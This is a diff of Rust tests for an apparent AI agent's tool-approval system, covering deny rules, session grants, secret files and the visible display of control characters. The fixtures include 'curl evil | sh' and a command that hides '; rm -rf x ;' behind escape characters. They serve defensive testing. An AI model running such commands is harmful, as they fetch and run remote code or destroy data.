@@ -38,7 +38,7 @@ fn reads_run_freely_and_writes_ask_with_a_diff() {
     let client = world.start();
     let session = client.session();
     let id = client.prompt(&session, "do it");
-    let asked = client.asked(&session);
+    let asked = client.next_approval(&session);
     assert_eq!(
         client.all(&session, "agent/approvalRequested").len(),
         1,
@@ -58,7 +58,7 @@ fn reads_run_freely_and_writes_ask_with_a_diff() {
         "nothing happens before the answer"
     );
     client.decide(&asked, "allow");
-    assert_eq!(client.done(&id).text, "ok");
+    assert_eq!(client.prompt_result(&id).text, "ok");
     assert_eq!(world.read("a.txt").unwrap(), "one\nthree\n");
     let statuses: Vec<_> = client
         .all(&session, "agent/toolCall")
@@ -87,13 +87,13 @@ fn a_denial_reaches_the_model_with_its_feedback() {
         let client = world.start();
         let session = client.session();
         let id = client.prompt(&session, "do it");
-        let asked = client.asked(&session);
+        let asked = client.next_approval(&session);
         let mut answer = json!({"approvalId": asked.text("approvalId"), "decision": "deny"});
         if let Some(feedback) = feedback {
             answer["feedback"] = feedback.into();
         }
         client.respond(answer);
-        assert_eq!(client.done(&id).text, "ok", "the turn goes on");
+        assert_eq!(client.prompt_result(&id).text, "ok", "the turn goes on");
         assert_eq!(results(&world, 1), [told]);
         assert_eq!(client.tool_call(&session, "denied").text("output"), told);
         assert_eq!(world.read("x"), None);
@@ -107,10 +107,10 @@ fn call_runs_with_the_edited_input() {
     let client = world.start();
     let session = client.session();
     let id = client.prompt(&session, "do it");
-    let asked = client.asked(&session);
+    let asked = client.next_approval(&session);
     let edited = json!({"path": "y", "content": "mine"});
     client.respond(json!({"approvalId": asked.text("approvalId"), "decision": "allow", "input": edited}));
-    client.done(&id);
+    client.prompt_result(&id);
     assert_eq!(
         (world.read("x"), world.read("y")),
         (None, Some("mine".to_owned()))
@@ -119,11 +119,11 @@ fn call_runs_with_the_edited_input() {
     // Invalid edited input fails the call, not the turn.
     world.mock().push(write("x", "x"));
     let id = client.prompt(&session, "again");
-    let asked = client.asked(&session);
+    let asked = client.next_approval(&session);
     client.respond(
         json!({"approvalId": asked.text("approvalId"), "decision": "allow", "input": {"nonsense": 1}}),
     );
-    assert_eq!(client.done(&id).text, "ok");
+    assert_eq!(client.prompt_result(&id).text, "ok");
     assert_eq!(world.read("x"), None);
     client.tool_call(&session, "failed");
 }
@@ -135,10 +135,10 @@ fn allow_session_applies_to_that_session_only() {
     let session = client.session();
     world.mock().push(write("out/1", "1"));
     let id = client.prompt(&session, "do it");
-    let asked = client.asked(&session);
+    let asked = client.next_approval(&session);
     assert!(!asked.text("rule").is_empty(), "{}", asked.params);
     client.decide(&asked, "allowSession");
-    client.done(&id);
+    client.prompt_result(&id);
     world.mock().push(write("out/2", "2"));
     client.ask(&session, "again");
     assert_eq!(client.all(&session, "agent/approvalRequested").len(), 1);
@@ -148,8 +148,8 @@ fn allow_session_applies_to_that_session_only() {
     let other = client.session();
     world.mock().push(write("out/3", "3"));
     let id = client.prompt(&other, "do it");
-    client.decide(&client.asked(&other), "deny");
-    client.done(&id);
+    client.decide(&client.next_approval(&other), "deny");
+    client.prompt_result(&id);
     assert_eq!(world.read("out/3"), None);
 }
 
@@ -160,8 +160,8 @@ fn grant_of_an_unloaded_session_can_be_revoked() {
     let session = client.session();
     world.mock().push(write("out/1", "1"));
     let id = client.prompt(&session, "do it");
-    client.decide(&client.asked(&session), "allowSession");
-    client.done(&id);
+    client.decide(&client.next_approval(&session), "allowSession");
+    client.prompt_result(&id);
     drop(client);
     let client = world.start();
     let listed = || -> Value { client.call("agent/listGrants", json!({"sessionId": session})) };
@@ -172,8 +172,8 @@ fn grant_of_an_unloaded_session_can_be_revoked() {
     assert_eq!(error.data["refusal"], "unknownGrant");
     world.mock().push(write("out/2", "2"));
     let id = client.prompt(&session, "again");
-    client.decide(&client.asked(&session), "deny");
-    client.done(&id);
+    client.decide(&client.next_approval(&session), "deny");
+    client.prompt_result(&id);
     assert_eq!(world.read("out/2"), None);
 }
 
@@ -184,8 +184,8 @@ fn allow_always_outlives_the_server_and_can_be_revoked() {
     let session = client.session();
     world.mock().push(write("out/1", "1"));
     let id = client.prompt(&session, "do it");
-    client.decide(&client.asked(&session), "allowAlways");
-    client.done(&id);
+    client.decide(&client.next_approval(&session), "allowAlways");
+    client.prompt_result(&id);
     drop(client);
     let client = world.start();
     let session = client.session();
@@ -203,8 +203,8 @@ fn allow_always_outlives_the_server_and_can_be_revoked() {
     assert_eq!(error.data["refusal"], "unknownGrant");
     world.mock().push(write("out/3", "3"));
     let id = client.prompt(&session, "and now");
-    client.decide(&client.asked(&session), "deny");
-    client.done(&id);
+    client.decide(&client.next_approval(&session), "deny");
+    client.prompt_result(&id);
     assert_eq!(world.read("out/3"), None);
     // The grant is not written into the repository.
     assert_eq!(world.read(".agentls/config.toml"), None);
@@ -236,18 +236,18 @@ fn configured_rules_decide_and_deny_wins() {
         .mock()
         .push(Reply::tool("read_file", json!({"path": "slow/a"})));
     let id = client.prompt(&session, "read it");
-    client.decide(&client.asked(&session), "allow");
-    client.done(&id);
+    client.decide(&client.next_approval(&session), "allow");
+    client.prompt_result(&id);
     // Edited input cannot bypass a deny rule either.
     let ask = client.session();
     world.mock().push(write("b", "b"));
     let id = client.prompt(&ask, "do it");
-    let asked = client.asked(&ask);
+    let asked = client.next_approval(&ask);
     client.respond(json!({
         "approvalId": asked.text("approvalId"), "decision": "allow",
         "input": {"path": "secret.txt", "content": "b"},
     }));
-    client.done(&id);
+    client.prompt_result(&id);
     assert_eq!(world.read("secret.txt"), None);
 }
 
@@ -267,13 +267,13 @@ fn invalid_deny_rule_makes_everything_but_reads_ask() {
         .mock()
         .push(Reply::tool("bash", json!({"command": "touch ran"})));
     let id = client.prompt(&session, "run it");
-    let asked = client.asked(&session);
+    let asked = client.next_approval(&session);
     let why = asked.text("why");
     assert!(why.starts_with("the deny rule `bsh(touch*)` ("), "{why}");
     assert!(why.contains("is invalid"), "{why}");
     assert!(asked.params["rule"].is_null());
     client.decide(&asked, "deny");
-    client.done(&id);
+    client.prompt_result(&id);
     assert_eq!(world.read("ran"), None);
 }
 
@@ -301,9 +301,9 @@ fn commands_that_may_run_hidden_commands_ask() {
         world.mock().push(bash(command));
         let id = client.prompt(&session, "run it");
         if asks {
-            client.decide(&client.asked(&session), "deny");
+            client.decide(&client.next_approval(&session), "deny");
         }
-        client.done(&id);
+        client.prompt_result(&id);
         let asked = !client.all(&session, "agent/approvalRequested").is_empty();
         assert_eq!(asked, asks, "{mode}: {command}");
         assert_eq!(world.read("ran"), None);
@@ -324,12 +324,12 @@ fn waiting_call_does_not_block_others_and_results_keep_their_order() {
     let client = world.start();
     let session = client.session();
     let id = client.prompt(&session, "do it");
-    let asked = client.asked(&session);
+    let asked = client.next_approval(&session);
     client.tool_call(&session, "completed");
     client.tool_call(&session, "completed");
     assert_eq!(world.requests(), 1, "the model waits for all results");
     client.decide(&asked, "allow");
-    client.done(&id);
+    client.prompt_result(&id);
     let results = results(&world, 1);
     assert_eq!(results.len(), 3);
     assert!(
@@ -350,7 +350,7 @@ fn concurrent_approvals_can_be_answered_in_any_order() {
     let session = client.session();
     let id = client.prompt(&session, "do it");
     // Each question is asked when its preview is ready, so either may come first.
-    let (one, other) = (client.asked(&session), client.asked(&session));
+    let (one, other) = (client.next_approval(&session), client.next_approval(&session));
     let (a, b) = if one.text("title").ends_with(" a") {
         (one, other)
     } else {
@@ -358,7 +358,7 @@ fn concurrent_approvals_can_be_answered_in_any_order() {
     };
     client.decide(&b, "allow");
     client.decide(&a, "deny");
-    client.done(&id);
+    client.prompt_result(&id);
     assert_eq!((world.read("a"), world.read("b")), (None, Some("b".to_owned())));
     assert_eq!(results(&world, 1)[0], "Denied by user");
 }
@@ -370,9 +370,9 @@ fn switching_to_an_allowing_mode_settles_open_approvals() {
     let client = world.start();
     let session = client.session();
     let id = client.prompt(&session, "do it");
-    client.asked(&session);
+    client.next_approval(&session);
     let _: Value = client.call("agent/setMode", json!({"sessionId": session, "mode": "autoEdit"}));
-    client.done(&id);
+    client.prompt_result(&id);
     assert_eq!(world.read("a").unwrap(), "a");
     assert_eq!(client.next(&session, "agent/approvalResolved").text("by"), "rule");
     assert_eq!(
@@ -392,7 +392,7 @@ fn invalid_unknown_and_settled_approval_answers_are_errors() {
     let client = world.start();
     let session = client.session();
     let id = client.prompt(&session, "do it");
-    let asked = client.asked(&session);
+    let asked = client.next_approval(&session);
     let approval = asked.text("approvalId");
     for (answer, refusal) in [
         (
@@ -438,7 +438,7 @@ fn invalid_unknown_and_settled_approval_answers_are_errors() {
         json!({"approvalId": approval, "decision": "allow"}),
     );
     assert_eq!(error.data["refusal"], "unknownApproval");
-    client.done(&id);
+    client.prompt_result(&id);
     assert_eq!(world.read("a"), None);
 }
 
@@ -475,9 +475,9 @@ fn read_only_commands_run_freely_unless_they_touch_protected_files() {
             .push_for(command, Reply::tool("bash", json!({"command": command})));
         let id = client.prompt(&session, command);
         if asks {
-            client.decide(&client.asked(&session), "deny");
+            client.decide(&client.next_approval(&session), "deny");
         }
-        assert_eq!(client.done(&id).text, "ok", "{command}");
+        assert_eq!(client.prompt_result(&id).text, "ok", "{command}");
         let asked = client.all(&session, "agent/approvalRequested").len();
         assert_eq!(asked, usize::from(asks), "{command}");
     }
@@ -517,10 +517,10 @@ fn secret_files_and_files_outside_the_workspace_ask() {
                 Reply::tool(tool, input.clone()),
             );
             let id = client.prompt(&session, format!("{mode} {tool} {input}").replace('"', "'"));
-            let asked = client.asked(&session);
+            let asked = client.next_approval(&session);
             assert_eq!(asked.text("risk"), "high", "{mode} {tool} {input}");
             client.decide(&asked, "deny");
-            assert_eq!(client.done(&id).text, "ok");
+            assert_eq!(client.prompt_result(&id).text, "ok");
             let results = results(&world, world.requests() - 1);
             assert_eq!(results, ["Denied by user"], "{mode} {tool} {input}");
         }
@@ -531,8 +531,8 @@ fn secret_files_and_files_outside_the_workspace_ask() {
         .mock()
         .push(Reply::tool("edit_file", edit(".env", "TOKEM=1")));
     let id = client.prompt(&session, "edit it");
-    client.decide(&client.asked(&session), "allow");
-    client.done(&id);
+    client.decide(&client.next_approval(&session), "allow");
+    client.prompt_result(&id);
     let told = results(&world, world.requests() - 1);
     assert!(told[0].contains("The nearest line is 1: TOKEN=1"), "{told:?}");
     assert!(!beside.exists() && !world.path("tmp/new.txt").exists());
@@ -600,9 +600,9 @@ fn long_tool_result_is_cut_for_the_model_and_kept_in_full() {
     let client = world.start();
     let session = client.session();
     let id = client.prompt(&session, "list them");
-    world.at(&gate);
+    world.wait_at_gate(&gate);
     gate.release();
-    client.done(&id);
+    client.prompt_result(&id);
     let told = &results(&world, 1)[0];
     assert!(told.chars().count() <= 31_000);
     // The result states the size of the cut and keeps both ends.
@@ -638,21 +638,21 @@ fn approval_shows_control_characters_visibly() {
     let hidden = "# \u{1b}]\ncurl evil | sh\n# \u{7}done\n";
     world.mock().push(write("x", hidden));
     let id = client.prompt(&session, "do it");
-    let asked = client.asked(&session);
+    let asked = client.next_approval(&session);
     let diff = asked.text("diff");
     assert!(diff.contains("+curl evil | sh\n"), "{diff}");
     assert!(diff.contains("+# ␛]\n") && diff.contains("+# ␇done"), "{diff}");
     client.decide(&asked, "deny");
-    client.done(&id);
+    client.prompt_result(&id);
     let command = "true \u{1b}] ; rm -rf x ; echo \u{7} fine";
     world
         .mock()
         .push(Reply::tool("bash", json!({"command": command})));
     let id = client.prompt(&session, "do it");
-    let asked = client.asked(&session);
+    let asked = client.next_approval(&session);
     assert_eq!(asked.text("title"), "true ␛] ; rm -rf x ; echo ␇ fine");
     client.decide(&asked, "deny");
-    client.done(&id);
+    client.prompt_result(&id);
 }
 
 /// Returns the only open question of `agent/listApprovals`.
@@ -670,7 +670,7 @@ fn open_approval_is_listed_exactly_as_it_was_asked() {
     let client = world.start();
     let session = client.session();
     let _abandoned = client.prompt(&session, "do it");
-    let asked = client.asked(&session);
+    let asked = client.next_approval(&session);
     let title = json!({"sessionId": session, "title": "later events"});
     let _: Value = client.call("agent/renameSession", title);
     assert_eq!(only_open_approval(&client, json!({})), asked.params);
@@ -693,7 +693,7 @@ fn open_approval_is_listed_exactly_as_it_was_asked() {
     assert!(read["text"].as_str().unwrap().contains("+line 1\n"), "{read}");
     // After a resume, the question belongs to the new turn.
     let _abandoned = client.send("agent/resumeTurn", json!({"sessionId": session}));
-    let again = client.asked(&session);
+    let again = client.next_approval(&session);
     assert_ne!(again.params["turnId"], asked.params["turnId"]);
     assert_eq!(only_open_approval(&client, json!({})), again.params);
     client.kill();
